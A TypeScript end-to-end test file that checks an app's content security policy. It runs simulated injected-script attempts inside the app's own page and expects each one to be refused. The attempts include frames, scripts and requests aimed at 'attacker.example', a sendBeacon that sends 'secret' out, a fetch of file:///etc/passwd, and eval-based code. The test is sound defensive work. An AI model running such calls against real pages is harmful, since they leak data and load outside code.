import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { expectSamePage, openHostilePage, refusalOf, ruleAgainst, watchViolations } from '../support/hostilePage';
import { queuePanel } from '../support/queues';
import { logIn } from '../support/screens';
import { expect, test } from '../support/test';

// Each of these runs in our own page, as if somebody else's script had got into it.

const attempts: readonly (readonly [name: string, rule: string, attempt: () => unknown])[] = [
  [
    'a frame from elsewhere',
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.example/';
      document.body.append(frame);
    },
  ],
  [
    'a frame of our own page',
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'smartspace-app://bundle/login.pt-BR.html';
      document.body.append(frame);
    },
  ],
  [
    'an object',
    'object-src',
    () => {
      const object = document.createElement('object');
      object.data = 'https://attacker.example/movie';
      document.body.append(object);
    },
  ],
  [
    'an embedded document',
    'object-src',
    () => {
      const embed = document.createElement('embed');
      embed.src = 'https://attacker.example/movie';
      document.body.append(embed);
    },
  ],
  [
    'an inline script',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.isTaken = true';
      document.body.append(script);
    },
  ],
  [
    'a script from elsewhere',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/script.js';
      document.body.append(script);
    },
  ],
  [
    'a script made of data',
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,window.isTaken=true';
      document.body.append(script);
    },
  ],
  [
    'an inline event handler',
    'script-src-attr',
    () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.isTaken = true');
      document.body.append(button);
      button.click();
    },
  ],
  [
    'an inline style',
    'style-src-elem',
    () => {
      const style = document.createElement('style');
      style.textContent = 'body { background: url(https://attacker.example/seen) }';
      document.head.append(style);
    },
  ],
  ['a request elsewhere', 'connect-src', () => void fetch('https://attacker.example/').catch(() => undefined)],
  [
    'a request to another host of our scheme',
    'connect-src',
    () => void fetch('smartspace-app://other/login.pt-BR.html').catch(() => undefined),
  ],
  ['a request for a file', 'connect-src', () => void fetch('file:///etc/passwd').catch(() => undefined)],
  ['a socket', 'connect-src', () => new WebSocket('wss://attacker.example/').url],
  ['a stream of events', 'connect-src', () => new EventSource('https://attacker.example/').url],
  ['a beacon', 'connect-src', () => navigator.sendBeacon('https://attacker.example/', 'secret')],
  [
    'a picture from elsewhere',
    'img-src',
    () => {
      new Image().src = 'https://attacker.example/seen.png';
    },
  ],
  [
    'another base address',
    'base-uri',
    () => {
      const base = document.createElement('base');
      base.href = 'https://attacker.example/';
      document.head.append(base);
    },
  ],
];

test('the content policy refuses what is not ours', async ({ launch }) => {
  const app = await openHostilePage(launch);
  const { page } = app;
  await test.step('whatever would load or run something that is not ours', async () => {
    for (const [name, rule, attempt] of attempts) {
      expect.soft(await ruleAgainst(page, attempt), name).toBe(`enforce ${rule}`);
      expect.soft(await page.evaluate(() => Reflect.has(window, 'isTaken')), name).toBe(false);
    }
    await expectSamePage(app);
  });
  await test.step('a picture from a file', async () => {
    const show = (address: string) =>
      page.evaluate(
        (source) =>
          new Promise((resolve) => {
            const image = new Image();
            image.onload = () => {
              resolve('shown');
            };
            image.onerror = () => {
              resolve('refused');
            };
            image.src = source;
          }),
        address,
      );
    expect(await show('data:image/gif;base64,R0lGODlhAQABAAAAACH5BAAAAAAALAAAAAABAAEAAAICTAEAOw==')).toBe('shown');
    expect(await show(pathToFileURL(path.resolve('resources/icon.png')).href)).toBe('refused');
  });
  await test.step('code made of text', async () => {
    const evaluate = () => (Reflect.get(globalThis, 'eval') as (text: string) => unknown)('1 + 1');
    const work = () => new Worker('data:text/javascript,postMessage(1 + 1)');
    const construct = () => (Reflect.construct(Function, ['return 1 + 1']) as () => unknown)();
    expect(await refusalOf(page, evaluate)).toBe('EvalError');
    expect(await refusalOf(page, construct)).toBe('EvalError');
    expect(await refusalOf(page, work)).toBe('SecurityError');
    // What is not refused is told apart from what is.
    expect(await refusalOf(page, () => 1 + 1)).toEqual({ allowed: '2' });
  });
});

test('the app itself breaks no rule of it', async ({ launch, ana }) => {
  const { page } = await launch();
  const violations = await watchViolations(page);
  await logIn(page, ana);
  await page.getByRole('button', { name: 'Canais de atendimento' }).click();
  await expect(queuePanel(page)).toBeVisible();
  expect(await violations()).toEqual([]);
});
